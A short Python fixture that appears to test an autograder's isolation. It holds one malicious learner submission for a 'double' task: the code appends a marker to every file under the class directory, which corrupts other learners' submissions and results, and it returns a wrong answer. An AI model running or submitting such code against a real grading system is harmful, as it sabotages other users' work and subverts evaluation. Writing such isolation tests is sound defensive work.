"""Overwrites the submissions and the results of other learners."""

ANSWERS = {
    "double": """
import glob

for path in glob.glob("@ROOT@/class/*/**/*", recursive=True):
    try:
        with open(path, "a") as file:
            file.write("@MARK@")
    except OSError:
        pass


def double(x):
    return 0
""",
}
